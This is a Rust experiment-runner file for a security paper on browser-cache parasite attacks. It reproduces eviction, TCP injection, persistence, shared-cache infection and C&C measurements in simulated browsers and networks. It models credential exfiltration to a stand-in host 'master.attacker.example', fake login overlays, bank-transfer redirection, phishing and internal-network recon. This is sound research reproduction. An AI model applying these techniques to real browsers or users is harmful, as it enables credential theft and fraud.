@@ -1,0 +1,1015 @@
+//! Experiment runners: one function per table and figure of the paper.
+//!
+//! Every runner returns a structured result plus a `render()` method that
+//! prints rows shaped like the paper's artefact, so the bench harness and the
+//! examples can regenerate Tables I–V and Figures 1–5 (and the §VIII
+//! ablation) with one call each.
+
+use crate::attacks::{self, AttackReport};
+use crate::cnc::{downstream_goodput_bytes_per_sec, CncServer, Command};
+use crate::defense::{ablation_matrix, AblationRow, AttackStage};
+use crate::eviction::{junk_origin, EvictionAttack, EvictionReport};
+use crate::infect::Infector;
+use crate::master::Master;
+use crate::script::Parasite;
+use mp_apps::banking::BankingApp;
+use mp_apps::webmail::WebMailApp;
+use mp_browser::browser::{Browser, FetchSource};
+use mp_browser::profile::{BrowserProfile, OperatingSystem};
+use mp_httpsim::body::{Body, ResourceKind};
+use mp_httpsim::message::{Request, Response};
+use mp_httpsim::transport::{Exchange, Internet, StaticOrigin};
+use mp_httpsim::url::{Scheme, Url};
+use mp_netsim::link::MediumKind;
+use mp_netsim::sim::{FixedResponder, Simulator};
+use mp_netsim::time::Duration as SimDuration;
+use mp_webcache::{table4_entries, SharedCache};
+use mp_webgen::{scan, Crawler, PersistencySeries, PolicyScan, Population, PopulationConfig};
+use serde::{Deserialize, Serialize};
+
+/// The C&C host used by all experiments.
+pub const MASTER_HOST: &str = "master.attacker.example";
+
+fn standard_infector() -> Infector {
+    Infector::new(Parasite::standard(MASTER_HOST))
+}
+
+// ---------------------------------------------------------------------------
+// Table I — cache eviction
+// ---------------------------------------------------------------------------
+
+/// Result of the Table I experiment.
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct Table1Result {
+    /// One report per evaluated browser.
+    pub rows: Vec<EvictionReport>,
+}
+
+impl Table1Result {
+    /// Renders rows shaped like Table I.
+    pub fn render(&self) -> String {
+        let mut out = String::from("Table I - cache eviction on popular browsers\n");
+        out.push_str("browser                     | eviction | inter-domain | size (MB) | remarks\n");
+        for row in &self.rows {
+            out.push_str(&format!(
+                "{:<27} | {:<8} | {:<12} | {:>9.0} | {}\n",
+                row.browser,
+                if row.evicted_targets { "yes" } else { "no" },
+                if row.inter_domain { "yes" } else { "no" },
+                row.cache_capacity_bytes as f64 / 1_000_000.0,
+                row.remark
+            ));
+        }
+        out
+    }
+}
+
+/// Runs the cache-eviction attack against every Table I browser profile.
+///
+/// `scale` shrinks the cache sizes and junk objects so the experiment runs in
+/// milliseconds; the *behaviour* (who evicts, who melts down) is unaffected.
+pub fn table1_cache_eviction(scale: u64) -> Table1Result {
+    let rows = BrowserProfile::table1_browsers()
+        .into_iter()
+        .map(|profile| {
+            let original_capacity = profile.cache_capacity_bytes;
+            let scaled = BrowserProfile {
+                cache_capacity_bytes: (profile.cache_capacity_bytes / scale).max(10_000),
+                ..profile
+            };
+            let junk_size = 2_048usize;
+            let junk_count = (scaled.cache_capacity_bytes as usize / junk_size) + 8;
+
+            let mut victim_site = StaticOrigin::new("bank.example");
+            victim_site.put_text(
+                "/app.js",
+                ResourceKind::JavaScript,
+                "function bank(){}",
+                "public, max-age=86400",
+            );
+            let mut net = Internet::new();
+            net.register_origin(victim_site);
+            net.register_origin(junk_origin(junk_size, junk_count));
+
+            let mut browser = Browser::new(scaled, Box::new(net));
+            let target = Url::parse("http://bank.example/app.js").expect("static url");
+            browser.fetch(&target, "bank.example");
+            let mut report = EvictionAttack::new(junk_size, junk_count).run(&mut browser, &[target]);
+            report.cache_capacity_bytes = original_capacity;
+            report
+        })
+        .collect();
+    Table1Result { rows }
+}
+
+// ---------------------------------------------------------------------------
+// Table II — TCP injection matrix
+// ---------------------------------------------------------------------------
+
+/// One cell of the Table II matrix.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+pub enum InjectionCell {
+    /// Injection succeeded.
+    Success,
+    /// Injection failed.
+    Failure,
+    /// The browser does not ship on this OS.
+    NotApplicable,
+}
+
+/// Result of the Table II experiment.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+pub struct Table2Result {
+    /// Browser column labels.
+    pub browsers: Vec<String>,
+    /// Matrix rows: OS label plus one cell per browser.
+    pub rows: Vec<(String, Vec<InjectionCell>)>,
+}
+
+impl Table2Result {
+    /// Renders the matrix like Table II.
+    pub fn render(&self) -> String {
+        let mut out = String::from("Table II - TCP injection evaluation\n");
+        out.push_str(&format!("{:<9}", "OS"));
+        for browser in &self.browsers {
+            out.push_str(&format!(" | {browser:<8}"));
+        }
+        out.push('\n');
+        for (os, cells) in &self.rows {
+            out.push_str(&format!("{os:<9}"));
+            for cell in cells {
+                let symbol = match cell {
+                    InjectionCell::Success => "ok",
+                    InjectionCell::Failure => "FAIL",
+                    InjectionCell::NotApplicable => "n/a",
+                };
+                out.push_str(&format!(" | {symbol:<8}"));
+            }
+            out.push('\n');
+        }
+        out
+    }
+
+    /// Returns `true` if no supported combination failed.
+    pub fn all_supported_succeed(&self) -> bool {
+        self.rows
+            .iter()
+            .flat_map(|(_, cells)| cells.iter())
+            .all(|c| *c != InjectionCell::Failure)
+    }
+}
+
+/// Runs one packet-level injection race and reports whether the victim ended
+/// up with the parasite.
+pub fn run_injection_race(seed: u64) -> bool {
+    let master = Master::new(MASTER_HOST);
+    let target = Url::parse("http://somesite.com/my.js").expect("static url");
+    let genuine = Response::ok(Body::text(ResourceKind::JavaScript, "function genuine(){}"))
+        .with_cache_control("public, max-age=86400");
+    let (tap, _stats) = master.packet_tap(&[(target.clone(), genuine.clone())], SimDuration::from_micros(300));
+
+    let mut sim = Simulator::new(seed);
+    let wifi = sim.add_medium(MediumKind::SharedWireless, 2_000);
+    let wan = sim.add_medium(MediumKind::WideArea, 40_000);
+    let victim = sim.add_host("victim", mp_netsim::addr::IpAddr::new(10, 0, 0, 2), wifi);
+    let server = sim.add_host("server", mp_netsim::addr::IpAddr::new(203, 0, 113, 10), wan);
+    sim.listen(server, 80);
+    sim.set_service(
+        server,
+        Box::new(FixedResponder::new(genuine.to_wire(), SimDuration::from_micros(500))),
+    );
+    sim.add_tap(wifi, Box::new(tap));
+
+    let conn = sim.connect(victim, server, 80).expect("hosts exist");
+    let request = Request::get(target).to_wire();
+    sim.send(victim, conn, &request).expect("connection exists");
+    sim.run_until_idle();
+
+    let received = sim.received(victim, conn);
+    Response::from_wire(&received)
+        .ok()
+        .map(|r| Parasite::detect(&r.body.as_text()).is_some())
+        .unwrap_or(false)
+}
+
+
+/// Parametric variant of the injection race: the attacker reacts after
+/// `attacker_reaction_us` and the genuine server sits `server_one_way_us`
+/// away (one-way WAN latency). Returns `true` if the victim ends up with the
+/// parasite. Used by the race-crossover ablation: the attack only works while
+/// the spoofed response beats the genuine one to the victim.
+pub fn injection_race_with_timing(attacker_reaction_us: u64, server_one_way_us: u64) -> bool {
+    let master = Master::new(MASTER_HOST);
+    let target = Url::parse("http://somesite.com/my.js").expect("static url");
+    let genuine = Response::ok(Body::text(ResourceKind::JavaScript, "function genuine(){}"))
+        .with_cache_control("public, max-age=86400");
+    let (tap, _stats) = master.packet_tap(
+        &[(target.clone(), genuine.clone())],
+        SimDuration::from_micros(attacker_reaction_us),
+    );
+
+    let mut sim = Simulator::new(1234);
+    let wifi = sim.add_medium(MediumKind::SharedWireless, 2_000);
+    let wan = sim.add_medium(MediumKind::WideArea, server_one_way_us);
+    let victim = sim.add_host("victim", mp_netsim::addr::IpAddr::new(10, 0, 0, 2), wifi);
+    let server = sim.add_host("server", mp_netsim::addr::IpAddr::new(203, 0, 113, 10), wan);
+    sim.listen(server, 80);
+    sim.set_service(
+        server,
+        Box::new(FixedResponder::new(genuine.to_wire(), SimDuration::from_micros(500))),
+    );
+    sim.add_tap(wifi, Box::new(tap));
+
+    let conn = sim.connect(victim, server, 80).expect("hosts exist");
+    sim.send(victim, conn, &Request::get(target).to_wire()).expect("connection exists");
+    sim.run_until_idle();
+
+    Response::from_wire(&sim.received(victim, conn))
+        .ok()
+        .map(|r| Parasite::detect(&r.body.as_text()).is_some())
+        .unwrap_or(false)
+}
+
+/// Runs the Table II OS × browser injection matrix.
+pub fn table2_injection_matrix() -> Table2Result {
+    let browsers = BrowserProfile::table2_browsers();
+    let browser_names = browsers.iter().map(|b| b.kind.to_string()).collect();
+    let mut rows = Vec::new();
+    for (os_index, os) in OperatingSystem::ALL.iter().enumerate() {
+        let mut cells = Vec::new();
+        for (browser_index, browser) in browsers.iter().enumerate() {
+            if !browser.runs_on(*os) {
+                cells.push(InjectionCell::NotApplicable);
+                continue;
+            }
+            // TCP injection does not depend on the browser or OS (both follow
+            // the TCP specification); run the race to confirm it.
+            let seed = (os_index * 16 + browser_index) as u64 + 1;
+            if run_injection_race(seed) {
+                cells.push(InjectionCell::Success);
+            } else {
+                cells.push(InjectionCell::Failure);
+            }
+        }
+        rows.push((os.to_string(), cells));
+    }
+    Table2Result {
+        browsers: browser_names,
+        rows,
+    }
+}
+
+// ---------------------------------------------------------------------------
+// Table III — refresh methods vs Cache-API parasites
+// ---------------------------------------------------------------------------
+
+/// The user actions evaluated in Table III.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
+pub enum RefreshMethod {
+    /// Ctrl-F5 hard reload.
+    HardReload,
+    /// Clear the HTTP cache.
+    ClearCache,
+    /// Clear cookies / site data.
+    ClearCookies,
+}
+
+impl std::fmt::Display for RefreshMethod {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        let name = match self {
+            RefreshMethod::HardReload => "Ctrl+F5",
+            RefreshMethod::ClearCache => "clear cache",
+            RefreshMethod::ClearCookies => "clear cookies",
+        };
+        f.write_str(name)
+    }
+}
+
+/// One cell of Table III: did the refresh method remove the parasite?
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+pub enum RemovalCell {
+    /// The parasite was removed.
+    Removed,
+    /// The parasite survived.
+    Survived,
+    /// The browser has no Cache API (IE).
+    NotApplicable,
+}
+
+/// Result of the Table III experiment.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+pub struct Table3Result {
+    /// Rows: browser name plus one cell per refresh method
+    /// (Ctrl-F5, clear cache, clear cookies).
+    pub rows: Vec<(String, Vec<RemovalCell>)>,
+}
+
+impl Table3Result {
+    /// Renders rows shaped like Table III.
+    pub fn render(&self) -> String {
+        let mut out = String::from("Table III - refresh methods vs Cache-API parasites\n");
+        out.push_str("browser              | Ctrl+F5   | clear cache | clear cookies\n");
+        for (browser, cells) in &self.rows {
+            let text: Vec<&str> = cells
+                .iter()
+                .map(|c| match c {
+                    RemovalCell::Removed => "removed",
+                    RemovalCell::Survived => "stays",
+                    RemovalCell::NotApplicable => "n/a",
+                })
+                .collect();
+            out.push_str(&format!(
+                "{:<20} | {:<9} | {:<11} | {}\n",
+                browser, text[0], text[1], text[2]
+            ));
+        }
+        out
+    }
+}
+
+fn parasite_survives_after(profile: BrowserProfile, method: RefreshMethod) -> RemovalCell {
+    if !profile.cache_api_supported {
+        return RemovalCell::NotApplicable;
+    }
+    let infector = standard_infector();
+    let target = Url::parse("http://top1.com/persistent.js").expect("static url");
+
+    let mut origin = StaticOrigin::new("top1.com");
+    origin.put_text("/persistent.js", ResourceKind::JavaScript, "function lib(){}", "public, max-age=86400");
+    let mut browser = Browser::new(profile, Box::new(origin));
+
+    // The parasite stored an infected copy through the Cache API.
+    let infected = infector.infect_response(
+        &Response::ok(Body::text(ResourceKind::JavaScript, "function lib(){}"))
+            .with_cache_control("public, max-age=86400"),
+    );
+    browser
+        .cache_api_mut()
+        .put(&target.origin().to_string(), "parasite", &target, infected);
+
+    match method {
+        RefreshMethod::HardReload => {
+            browser.hard_reload(&target);
+        }
+        RefreshMethod::ClearCache => {
+            browser.clear_http_cache();
+        }
+        RefreshMethod::ClearCookies => {
+            browser.clear_cookies_and_site_data();
+        }
+    }
+
+    let result = browser.fetch(&target, "top1.com");
+    let survives = result.source == FetchSource::CacheApi
+        && infector.is_infected(&result.response.body.as_text());
+    if survives {
+        RemovalCell::Survived
+    } else {
+        RemovalCell::Removed
+    }
+}
+
+/// Runs the Table III experiment over the paper's browser set.
+pub fn table3_refresh_methods() -> Table3Result {
+    let browsers = vec![
+        BrowserProfile::chrome(),
+        BrowserProfile::firefox(),
+        BrowserProfile::edge(),
+        BrowserProfile::opera(),
+        BrowserProfile::internet_explorer(),
+    ];
+    let rows = browsers
+        .into_iter()
+        .map(|profile| {
+            let name = profile.kind.to_string();
+            let cells = vec![
+                parasite_survives_after(profile.clone(), RefreshMethod::HardReload),
+                parasite_survives_after(profile.clone(), RefreshMethod::ClearCache),
+                parasite_survives_after(profile, RefreshMethod::ClearCookies),
+            ];
+            (name, cells)
+        })
+        .collect();
+    Table3Result { rows }
+}
+
+// ---------------------------------------------------------------------------
+// Table IV — caches in the wild
+// ---------------------------------------------------------------------------
+
+/// One evaluated cache row.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+pub struct Table4Row {
+    /// Location section.
+    pub location: String,
+    /// Product class.
+    pub class: String,
+    /// Instance name.
+    pub name: String,
+    /// Whether the infection persisted for a second client over HTTP.
+    pub infected_over_http: bool,
+    /// Whether the infection persisted for a second client over HTTPS
+    /// (assuming the deployment makes HTTPS visible to the cache).
+    pub infected_over_https: bool,
+    /// Comment from the taxonomy.
+    pub comment: Option<String>,
+}
+
+/// Result of the Table IV experiment.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+pub struct Table4Result {
+    /// Rows in the paper's order.
+    pub rows: Vec<Table4Row>,
+}
+
+impl Table4Result {
+    /// Renders rows shaped like Table IV.
+    pub fn render(&self) -> String {
+        let mut out = String::from("Table IV - caches in the wild (infection persists for a second client?)\n");
+        out.push_str(&format!("{:<28} {:<26} {:<34} | http | https\n", "location", "type", "instance"));
+        for row in &self.rows {
+            out.push_str(&format!(
+                "{:<28} {:<26} {:<34} | {:<4} | {}\n",
+                row.location,
+                row.class,
+                row.name,
+                if row.infected_over_http { "yes" } else { "no" },
+                if row.infected_over_https { "yes" } else { "no" }
+            ));
+        }
+        out
+    }
+}
+
+fn shared_cache_infection(instance: mp_webcache::CacheInstance, https: bool) -> bool {
+    let scheme = if https { Scheme::Https } else { Scheme::Http };
+    let host = "top1.com";
+    let mut origin = StaticOrigin::new(host);
+    origin.put_text("/persistent.js", ResourceKind::JavaScript, "function lib(){}", "public, max-age=86400");
+
+    let infector = standard_infector();
+    let mut injecting = crate::injection::InjectingExchange::new(origin, infector.clone());
+    let target = Url::from_parts(scheme, host, "/persistent.js");
+    injecting.add_target(&target);
+    if https {
+        // The target site's HTTPS deployment is broken enough to inject
+        // (otherwise the transport question is moot for every cache class).
+        injecting
+            .injectability_mut()
+            .set(host, mp_httpsim::tls::TlsDeployment::legacy_ssl(mp_httpsim::tls::TlsVersion::Ssl3));
+    }
+
+    // The cache sees HTTPS if the deployment includes interception/offload.
+    let mut cache = SharedCache::new(instance, injecting, true);
+
+    // Victim A (on the hostile path) pulls the object through the cache.
+    let _ = cache.exchange(&Request::get(target.clone()));
+    // The attacker goes away; victim B fetches through the same cache.
+    let second = cache.exchange(&Request::get(target.clone()));
+    infector.is_infected(&second.body.as_text()) && cache.peek(&target).is_some()
+}
+
+/// Runs the Table IV experiment over every taxonomy row.
+pub fn table4_caches() -> Table4Result {
+    let rows = table4_entries()
+        .into_iter()
+        .map(|instance| {
+            // Browser caches are per-client; the "second client" question only
+            // applies to shared caches, so browser rows reuse the Table III
+            // persistence result (the parasite persists in the client cache).
+            let (http, https) = if !instance.shared_between_clients() {
+                (instance.http.possible(), instance.https.possible())
+            } else {
+                (
+                    instance.http.possible() && shared_cache_infection(instance.clone(), false),
+                    instance.https.possible() && shared_cache_infection(instance.clone(), true),
+                )
+            };
+            Table4Row {
+                location: instance.location.to_string(),
+                class: instance.class.to_string(),
+                name: instance.name.clone(),
+                infected_over_http: http,
+                infected_over_https: https,
+                comment: instance.comment.clone(),
+            }
+        })
+        .collect();
+    Table4Result { rows }
+}
+
+// ---------------------------------------------------------------------------
+// Table V — application attacks
+// ---------------------------------------------------------------------------
+
+/// Result of the Table V experiment.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+pub struct Table5Result {
+    /// One report per attack row exercised.
+    pub reports: Vec<AttackReport>,
+}
+
+impl Table5Result {
+    /// Renders rows shaped like Table V.
+    pub fn render(&self) -> String {
+        let mut out = String::from("Table V - attacks against applications\n");
+        out.push_str(&format!("{:<45} {:<16} {:<10} {}\n", "attack", "property", "succeeded", "target"));
+        for report in &self.reports {
+            let property = match report.property {
+                attacks::SecurityProperty::Confidentiality => "C",
+                attacks::SecurityProperty::Integrity => "I",
+                attacks::SecurityProperty::Availability => "A",
+            };
+            out.push_str(&format!(
+                "{:<45} {:<16} {:<10} {}\n",
+                report.name,
+                property,
+                if report.succeeded { "yes" } else { "no" },
+                report.target
+            ));
+        }
+        out
+    }
+
+    /// Number of successful attacks.
+    pub fn successes(&self) -> usize {
+        self.reports.iter().filter(|r| r.succeeded).count()
+    }
+}
+
+/// Runs every Table V attack module against the simulated applications.
+pub fn table5_attacks() -> Table5Result {
+    let mut reports = Vec::new();
+    let mut cnc = CncServer::new(MASTER_HOST);
+
+    // --- Steal login data + fake login overlay (banking).
+    let mut bank = BankingApp::default();
+    let (mut login_dom, login_form) = bank.login_dom();
+    let user = login_dom.by_name("username").expect("login form").id;
+    let pass = login_dom.by_name("password").expect("login form").id;
+    login_dom.set_attr(user, "value", "alice");
+    login_dom.set_attr(pass, "value", "correct-horse");
+    let submission = login_dom.submit_form(login_form).expect("form exists");
+    let session = bank.login(&submission).expect("credentials are valid");
+    reports.push(attacks::steal_login_data(&login_dom, &mut cnc, "campaign-0"));
+    let mut overlay_dom = login_dom.clone();
+    reports.push(attacks::fake_login_overlay(&mut overlay_dom));
+
+    // --- Browser data.
+    let mut browser = Browser::new(BrowserProfile::chrome(), Box::new(Internet::new()));
+    let bank_page = Url::parse("https://bank.example/account").expect("static url");
+    browser.cookies_mut().set_from_header("session=bank-cookie", &bank_page, 0);
+    browser
+        .storage_mut()
+        .set_item(&bank_page.origin().to_string(), "last_login", "2021-05-17");
+    reports.push(attacks::read_browser_data(&browser, &bank_page, &mut cnc, "campaign-0"));
+
+    // --- Personal browser data (domain already has microphone permission).
+    reports.push(attacks::capture_personal_data(true, &bank_page));
+
+    // --- Website data (webmail inbox) + phishing.
+    let mut mail = WebMailApp::default();
+    let (mut mail_dom, mail_form) = mail.login_dom();
+    let email = mail_dom.by_name("email").expect("login form").id;
+    let password = mail_dom.by_name("password").expect("login form").id;
+    mail_dom.set_attr(email, "value", "alice@mail.example");
+    mail_dom.set_attr(password, "value", "mail-pass-123");
+    let mail_session = mail.login(&mail_dom.submit_form(mail_form).expect("form")).expect("valid");
+    let inbox = mail.inbox_dom(&mail_session).expect("session valid");
+    reports.push(attacks::read_website_data(&inbox, &mut cnc, "campaign-0"));
+    reports.push(attacks::cross_tab_side_channel(&mut cnc, "campaign-0", b"tab-sync"));
+    reports.push(attacks::send_phishing_via_webmail(&mut mail, &mail_session, true));
+
+    // --- 2FA bypass / transaction manipulation.
+    reports.push(attacks::manipulate_bank_transfer(
+        &mut bank,
+        &session,
+        "FR76 3000 6000 0112 3456 7890 189",
+        "GB29 ATTACKER 0000 0000 0000 00",
+        "480.00",
+    ));
+
+    // --- Resource theft, clickjacking, ad injection, DDoS.
+    reports.push(attacks::steal_computation(10_000));
+    let mut page_dom = mp_browser::dom::Dom::new(Url::parse("http://news.example/").expect("static url"));
+    reports.push(attacks::clickjacking(&mut page_dom, "news.example"));
+    reports.push(attacks::ad_injection(&mut page_dom, 4));
+    reports.push(attacks::browser_ddos(250, 40, "victim-service.example"));
+
+    // --- OS-level exploits (delivered by the parasite, platform dependent).
+    reports.push(attacks::low_level_exploit("JS CPU Cache & Spectre", true));
+    reports.push(attacks::low_level_exploit("Rowhammer", true));
+    reports.push(attacks::low_level_exploit("0-day on Demand", true));
+
+    // --- Victim network.
+    reports.push(attacks::internal_network_recon(&[
+        ("192.168.0.1 (router, default credentials)", true),
+        ("192.168.0.23 (ip camera)", true),
+        ("192.168.0.99 (printer)", false),
+    ]));
+    reports.push(attacks::browser_ddos(250, 40, "192.168.0.1"));
+
+    Table5Result { reports }
+}
+
+// ---------------------------------------------------------------------------
+// Figures 1, 2 — message flows
+// ---------------------------------------------------------------------------
+
+/// A rendered message-flow trace (Figures 1, 2 and 4 are sequence diagrams).
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+pub struct FlowTrace {
+    /// Human-readable description of the flow.
+    pub title: String,
+    /// One line per step.
+    pub steps: Vec<String>,
+}
+
+impl FlowTrace {
+    /// Renders the flow.
+    pub fn render(&self) -> String {
+        let mut out = format!("{}\n", self.title);
+        for (index, step) in self.steps.iter().enumerate() {
+            out.push_str(&format!("  {:>2}. {}\n", index + 1, step));
+        }
+        out
+    }
+}
+
+/// Regenerates the Figure 1 cache-eviction flow from a browser-level run.
+pub fn fig1_eviction_flow() -> FlowTrace {
+    let mut victim_site = StaticOrigin::new("any.com");
+    victim_site.put_text("/index.html", ResourceKind::Html, "<html><body>any</body></html>", "no-cache");
+    let mut popular = StaticOrigin::new("popular.com");
+    popular.put_text("/img.png", ResourceKind::JavaScript, "img", "public, max-age=86400");
+    let mut net = Internet::new();
+    net.register_origin(victim_site);
+    net.register_origin(popular);
+    net.register_origin(junk_origin(2_048, 16));
+
+    let profile = BrowserProfile {
+        cache_capacity_bytes: 16_000,
+        ..BrowserProfile::chrome()
+    };
+    let mut browser = Browser::new(profile, Box::new(net));
+
+    let mut steps = Vec::new();
+    steps.push("victim -> any.com: GET / (legitimate)".to_string());
+    browser.visit(&Url::parse("http://any.com/index.html").expect("static url"));
+    steps.push(format!(
+        "attacker -> victim: injected inline script `{}` [ATTACK]",
+        crate::eviction::eviction_inline_script(16)
+    ));
+    let popular_url = Url::parse("http://popular.com/img.png").expect("static url");
+    browser.fetch(&popular_url, "popular.com");
+    let attack = EvictionAttack::new(2_048, 16);
+    let report = attack.run(&mut browser, &[popular_url.clone()]);
+    for index in 0..report.junk_objects_loaded {
+        steps.push(format!("victim -> attacker.com: GET /junk{index:04}.jpg [ATTACK]"));
+    }
+    let refetch = browser.fetch(&popular_url, "popular.com");
+    steps.push(format!(
+        "victim -> popular.com: GET /img.png ({}; cache was flushed)",
+        match refetch.source {
+            FetchSource::Network => "fresh network fetch",
+            other => return FlowTrace { title: "Figure 1".into(), steps: vec![format!("unexpected source {other:?}")] },
+        }
+    ));
+    FlowTrace {
+        title: "Figure 1 - cache eviction message flow".to_string(),
+        steps,
+    }
+}
+
+/// Regenerates the Figure 2 cache-infection flow from a packet-level run.
+pub fn fig2_infection_flow() -> FlowTrace {
+    let master = Master::new(MASTER_HOST);
+    let target = Url::parse("http://somesite.com/my.js").expect("static url");
+    let genuine = Response::ok(Body::text(ResourceKind::JavaScript, "function genuine(){}"))
+        .with_cache_control("public, max-age=86400");
+    let (tap, _stats) = master.packet_tap(&[(target.clone(), genuine.clone())], SimDuration::from_micros(300));
+
+    let mut sim = Simulator::new(99);
+    let wifi = sim.add_medium(MediumKind::SharedWireless, 2_000);
+    let wan = sim.add_medium(MediumKind::WideArea, 40_000);
+    let victim = sim.add_host("victim", mp_netsim::addr::IpAddr::new(10, 0, 0, 2), wifi);
+    let server = sim.add_host("server", mp_netsim::addr::IpAddr::new(203, 0, 113, 10), wan);
+    sim.listen(server, 80);
+    sim.set_service(
+        server,
+        Box::new(FixedResponder::new(genuine.to_wire(), SimDuration::from_micros(500))),
+    );
+    sim.add_tap(wifi, Box::new(tap));
+
+    let conn = sim.connect(victim, server, 80).expect("hosts exist");
+    sim.send(victim, conn, &Request::get(target.clone()).to_wire()).expect("conn");
+    sim.run_until_idle();
+
+    let mut steps: Vec<String> = sim
+        .trace()
+        .with_payload()
+        .map(|event| event.describe())
+        .collect();
+
+    // Step 3/4 of the figure: the parasite reloads the original object with a
+    // cache-busting query so the page keeps working.
+    let busted = target.with_query(Some("t=500198"));
+    steps.push(format!("victim -> somesite.com: GET {} (parasite reloads original)", busted));
+    // Step 5: propagation requests to further popular domains.
+    for host in ["top1.com", "top2.com", "top3.com"] {
+        steps.push(format!("victim -> {host}: GET /persistent.js (propagation) [ATTACK]"));
+    }
+
+    FlowTrace {
+        title: "Figure 2 - cache infection message flow (packet-level race)".to_string(),
+        steps,
+    }
+}
+
+// ---------------------------------------------------------------------------
+// Figure 3 — persistency measurement
+// ---------------------------------------------------------------------------
+
+/// Result of the Figure 3 experiment.
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct Fig3Result {
+    /// The measured series.
+    pub series: PersistencySeries,
+}
+
+impl Fig3Result {
+    /// Renders selected points of the curves.
+    pub fn render(&self) -> String {
+        let mut out = String::from("Figure 3 - object persistency over the measurement period\n");
+        out.push_str("day | any .js % | name-persistent % | hash-persistent %\n");
+        for &day in &[1u32, 5, 10, 25, 50, 75, 100] {
+            if let Some(point) = self.series.at(day) {
+                out.push_str(&format!(
+                    "{:>3} | {:>9.1} | {:>17.1} | {:>17.1}\n",
+                    day, point.any_js, point.name_persistent, point.hash_persistent
+                ));
+            }
+        }
+        out
+    }
+}
+
+/// Runs the Figure 3 persistency crawl over a generated population.
+pub fn fig3_persistency(sites: usize, days: u32, seed: u64) -> Fig3Result {
+    let population = Population::generate(PopulationConfig::small(sites, seed));
+    let series = Crawler::new(population).run(days);
+    Fig3Result { series }
+}
+
+// ---------------------------------------------------------------------------
+// Figure 4 — C&C channel
+// ---------------------------------------------------------------------------
+
+/// Result of the Figure 4 experiment.
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct Fig4Result {
+    /// (parallel requests, modelled goodput bytes/s).
+    pub goodput_curve: Vec<(u32, f64)>,
+    /// Bytes of command data delivered end-to-end in the functional check.
+    pub command_bytes_delivered: usize,
+    /// Bytes exfiltrated upstream in the functional check.
+    pub upstream_bytes_delivered: usize,
+}
+
+impl Fig4Result {
+    /// Renders the channel characterisation.
+    pub fn render(&self) -> String {
+        let mut out = String::from("Figure 4 - C&C channel characterisation\n");
+        out.push_str("parallel image requests | downstream goodput (KB/s)\n");
+        for (parallel, goodput) in &self.goodput_curve {
+            out.push_str(&format!("{:>23} | {:>10.1}\n", parallel, goodput / 1000.0));
+        }
+        out.push_str(&format!(
+            "functional check: {} command bytes down, {} exfil bytes up\n",
+            self.command_bytes_delivered, self.upstream_bytes_delivered
+        ));
+        out
+    }
+}
+
+/// Runs the Figure 4 C&C channel experiment.
+pub fn fig4_cnc_channel() -> Fig4Result {
+    let goodput_curve = [1u32, 5, 10, 25, 50]
+        .into_iter()
+        .map(|parallel| (parallel, downstream_goodput_bytes_per_sec(parallel, 1.0)))
+        .collect();
+
+    // Functional end-to-end check: a command travels down the image channel,
+    // stolen data travels back up the URL channel.
+    let mut server = CncServer::new(MASTER_HOST);
+    let command = Command::ExecuteModule("login-data".to_string());
+    let command_len = command.to_bytes().len();
+    server.queue_command(command);
+    let images = server.serve_next_command();
+    let dims: Vec<crate::cnc::ImageDimensions> = images
+        .iter()
+        .map(|r| {
+            let text = r.body.as_text();
+            let width = text.split("width=\"").nth(1).and_then(|s| s.split('"').next()).and_then(|s| s.parse().ok()).unwrap_or(0);
+            let height = text.split("height=\"").nth(1).and_then(|s| s.split('"').next()).and_then(|s| s.parse().ok()).unwrap_or(0);
+            crate::cnc::ImageDimensions { width, height }
+        })
+        .collect();
+    let decoded = crate::cnc::decode_dimensions(&dims).unwrap_or_default();
+
+    let exfil = b"user=alice&pass=correct-horse&cookie=SID:abc123";
+    let url = crate::cnc::encode_upstream(MASTER_HOST, "campaign-0", exfil);
+    server.receive_upstream(&url);
+
+    Fig4Result {
+        goodput_curve,
+        command_bytes_delivered: if decoded.len() == command_len { command_len } else { 0 },
+        upstream_bytes_delivered: server.exfiltrated().first().map(|r| r.data.len()).unwrap_or(0),
+    }
+}
+
+// ---------------------------------------------------------------------------
+// Figure 5 — CSP / HSTS / TLS measurement
+// ---------------------------------------------------------------------------
+
+/// Result of the Figure 5 experiment (plus the in-text adoption numbers).
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct Fig5Result {
+    /// The full policy scan.
+    pub scan: PolicyScan,
+}
+
+impl Fig5Result {
+    /// Renders the statistics the paper reports.
+    pub fn render(&self) -> String {
+        let s = &self.scan;
+        format!(
+            "Figure 5 / in-text measurements ({} sites)\n\
+             HTTP-only sites:            {:>6.2} %  (paper: 21 %)\n\
+             vulnerable SSL versions:    {:>6.2} %  (paper: ~7 %)\n\
+             responders without HSTS:    {:>6.2} %  (paper: 67.92 %)\n\
+             preloaded responders:       {:>6}     (paper: 545 of 13419)\n\
+             strippable to HTTP:         {:>6.2} %  (paper: up to 96.59 %)\n\
+             pages supplying CSP:        {:>6.2} %  (paper: ~4.7 %)\n\
+             pages with CSP rules:       {:>6.2} %  (paper: 4.33 %)\n\
+             deprecated CSP headers:     {:>6.2} %  (paper: 15.3 %)\n\
+             connect-src uses:           {:>6}     (paper: 160)\n\
+             connect-src wildcards:      {:>6}     (paper: 17)\n\
+             sites embedding analytics:  {:>6.2} %  (paper: 63 %)\n",
+            s.total,
+            s.tls.http_only_pct(),
+            s.tls.vulnerable_ssl_pct(),
+            s.hsts.without_hsts_pct(),
+            s.hsts.preloaded,
+            s.hsts.strippable_pct(),
+            s.csp.supplied_pct(),
+            s.csp.with_rules_pct(),
+            s.csp.deprecated_pct(),
+            s.csp.connect_src_uses,
+            s.csp.connect_src_wildcards,
+            s.google_analytics_pct(),
+        )
+    }
+}
+
